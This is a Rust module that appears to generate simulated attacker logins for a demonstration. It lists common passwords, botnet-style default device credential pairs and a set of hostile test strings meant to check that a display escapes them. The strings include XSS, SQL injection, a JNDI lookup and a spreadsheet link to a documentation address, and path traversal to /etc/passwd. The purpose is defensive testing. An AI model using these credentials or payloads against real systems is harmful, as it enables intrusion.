//! The input of attackers: default passwords of devices, the usual guesses, and strings made to break programs that show them.

use std::borrow::Cow;

use rand::RngExt;
use rand_chacha::ChaCha8Rng;

use super::dice::Weighted;

/// The commonest passwords, in order. `#` stands for the next of [`HOSTILE`].
#[rustfmt::skip]
const PASSWORDS: &[&str] = &[
    "123456", "admin", "password", "root", "1234", "12345", "", "123456789", "#", "#", "xc3511", "#", "qwerty", "#", "#",
    "12345678", "#", "vizxv", "#", "#", "111111", "#", "\n", "default", "#", "1q2w3e4r", "#", "support", "#", "888888", "#",
    "letmein", "raspberry", "#", "ubnt", "#", "admin123", "#", "toor", "test", "#", "123123", "changeme", "#", "juantech",
    "54321", "#", "system", "pass", "#", "user", "guest", "#", "666666", "#", "7ujMko0admin", "smcadmin", "klv123", "dreambox",
    "hi3518", "anko", "zlxx.", "password1", "P@ssw0rd", "abc123", "oracle", "postgres", "ubuntu", "iloveyou", "dragon",
    "monkey", "service", "supervisor", "Zte521", "hunt5759", "meinsm", "realtek", "00000000", "1111111", "tech", "passw0rd",
    "qwerty123", "1qaz2wsx", "zxcvbnm", "welcome", "master", "hello", "sunshine", "princess", "football", "shadow", "minecraft",
    "heslo123", "žluťoučký kůň", "motdepasse", "contraseña", "passwort", "密码", "пароль", "パスワード", "mysql", "nagios",
    "tomcat", "deploy", "jenkins", "git", "ftp", "backup", "www-data", "server", "cisco", "huawei", "mikrotik", "synology",
];

/// The commonest user names, in order. `#` stands for the next of [`HOSTILE`].
#[rustfmt::skip]
const USERNAMES: &[&str] = &[
    "root", "admin", "user", "test", "support", "guest", "ubuntu", "", "#", "oracle", "pi", "#", "postgres", "ftp", "#", "git",
    "supervisor", "#", "mysql", "service", "#", "www", "\n", "nagios", "#", "tomcat", "administrator", "#", "deploy", "jenkins",
    "#", "tech", "#", "default", "ubnt", "minecraft", "es", "hadoop", "docker", "ansible", "vagrant", "webmaster", "info", "sales",
    "mail", "backup", "www-data", "nobody", "operator", "daemon", "adm", "student", "jan.novák", "山田", "иван",
];

/// Defaults of devices, which botnets try as pairs.
#[rustfmt::skip]
const PAIRS: &[(&str, &str)] = &[
    ("root", "xc3511"), ("admin", "admin"), ("root", "vizxv"), ("root", "root"), ("pi", "raspberry"), ("root", "888888"),
    ("support", "support"), ("root", "juantech"), ("admin", "password"), ("ubnt", "ubnt"), ("root", "54321"),
    ("admin", "smcadmin"), ("root", "anko"), ("root", "zlxx."), ("root", "7ujMko0admin"), ("user", "user"),
    ("guest", "guest"), ("supervisor", "supervisor"), ("root", "klv123"), ("root", "Zte521"),
];

/// Strings made to break programs that show them. They are seen in the demonstration's rankings, and are harmless there.
pub(super) const HOSTILE: &[&str] = &[
    "<script>alert('sview')</script>",
    "' OR '1'='1' --",
    "{{7*7}}",
    "\"><img src=x onerror=alert(1)>",
    "Robert'); DROP TABLE passwords;--",
    "🔥👾💀",
    "first line\nsecond line",
    "\u{202e}drowssap\u{202c} is reversed",
    "LONG",
    "</title><svg onload=alert(1)>",
    "${jndi:ldap://192.0.2.1/a}",
    "=HYPERLINK(\"http://192.0.2.1\",\"click\")",
    "javascript:alert(1)",
    "\u{1b}[31mred\u{1b}[0m\u{7}",
    "a;b#c/d%e?f=g&h",
    "../../../../etc/passwd",
    "tab\there, quote \" and back\\slash",
    "zero\u{200b}width\u{feff}",
    "␀ stood for NUL",
    "&lt;b&gt;already escaped&lt;/b&gt;",
    "Z̸̡̢͎a̴l̵g̶o̷",
    " ",
];

/// The place of a string of 500 characters in [`HOSTILE`]: it is not written out there.
const LONG: &str = "LONG";

/// The words and how often each is typed.
#[derive(Debug)]
pub(super) struct Words {
    passwords: (Vec<Cow<'static, str>>, Weighted),
    usernames: (Vec<Cow<'static, str>>, Weighted),
    pairs: Weighted,
}

impl Words {
    pub(super) fn new() -> Self {
        Self {
            passwords: ranked(PASSWORDS),
            usernames: ranked(USERNAMES),
            pairs: Weighted::zipf(PAIRS.len(), 2.0, 0.8),
        }
    }

    /// A user name and a password.
    pub(super) fn login(&self, dice: &mut ChaCha8Rng) -> (String, String) {
        let chance: f64 = dice.random();
        if chance < 0.1 {
            let (username, password) = PAIRS[self.pairs.pick(dice)];
            return (username.to_owned(), password.to_owned());
        }
        let username = if chance < 0.93 { pick(&self.usernames, dice) } else { letters(3..10, dice) };
        let password = match dice.random::<f64>() {
            c if c < 0.74 => pick(&self.passwords, dice),
            c if c < 0.88 => format!("{}{}", pick(&self.usernames, dice), dice.random_range(1..2030)),
            _ => letters(5..15, dice),
        };
        (username, password)
    }
}

fn ranked(words: &[&'static str]) -> (Vec<Cow<'static, str>>, Weighted) {
    let mut hostile = HOSTILE.iter();
    let texts: Vec<Cow<'static, str>> = words
        .iter()
        .map(|word| match *word {
            "#" => match hostile.next() {
                Some(&LONG) => Cow::Owned("A very long password. ".chars().cycle().take(500).collect()),
                Some(text) => Cow::Borrowed(*text),
                None => Cow::Borrowed("#"),
            },
            word => Cow::Borrowed(word),
        })
        .collect();
    let weights = Weighted::zipf(texts.len(), 3.0, 0.85);
    (texts, weights)
}

fn pick((texts, weights): &(Vec<Cow<'static, str>>, Weighted), dice: &mut ChaCha8Rng) -> String {
    texts[weights.pick(dice)].clone().into_owned()
}

fn letters(length: std::ops::Range<usize>, dice: &mut ChaCha8Rng) -> String {
    const LETTERS: &[u8] = b"abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789";
    let length = dice.random_range(length);
    (0..length).map(|_| char::from(LETTERS[dice.random_range(0..LETTERS.len())])).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_hostile_string_has_a_rank() {
        let (texts, _) = ranked(PASSWORDS);
        for text in HOSTILE.iter().filter(|t| **t != LONG) {
            assert!(texts.iter().any(|t| t == text), "{text:?}");
        }
        assert!(texts.iter().any(|t| t.chars().count() == 500));
        assert!(!texts.iter().any(|t| t == "#"), "more places than strings");
    }
}
